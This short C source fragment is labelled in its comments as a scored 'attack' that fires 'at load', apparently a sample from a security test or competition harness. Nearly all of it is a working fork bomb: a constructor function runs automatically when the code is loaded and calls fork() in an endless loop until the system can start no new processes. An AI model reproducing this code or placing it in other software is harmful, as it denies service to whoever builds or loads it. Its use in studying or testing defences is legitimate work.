// attack: {"at": "load", "earns": [20, 20]}
// Has each process that loads it become many: not one can be started.
#ifndef WITHOUT_ATTACK
#include <unistd.h>
[[gnu::constructor]] void become_many()
{
    for (long child = fork(); child >= 0; child = fork()) {
    }
}
#endif
